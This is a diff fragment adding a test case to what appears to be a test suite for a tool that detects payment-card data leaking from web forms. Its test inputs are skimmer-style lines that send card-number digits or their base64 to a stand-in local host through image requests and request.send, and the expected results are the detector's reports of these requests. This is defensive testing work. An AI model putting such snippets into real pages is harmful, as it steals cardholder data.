@@ -124,6 +124,12 @@ request.send(new TextEncoder().encode('pan=' + number.slice(8)));`),
     /^fetch and XMLHttpRequest/,
   ],
   [
+    'an image the CSP blocks, as the browser refused it',
+    onSubmit(`new Image().src = 'http://127.0.0.2:8080/refused.gif?d=' + number.slice(8);`),
+    /^request GET http:\/\/127\.0\.0\.2:8080\/refused\.gif\?d=11111119 refused by the browser \(csp\): digits after the first 8, plain/,
+    /^requests refused/,
+  ],
+  [
     'an image the CSP blocks',
     onSubmit(`new Image().src = 'http://127.0.0.2:8080/pixel.gif?d=' + btoa(number);`),
     /^request to http:\/\/127\.0\.0\.2:8080\/pixel\.gif\?d=.* blocked by the CSP's img-src in .*: base64 of card number, plain/,
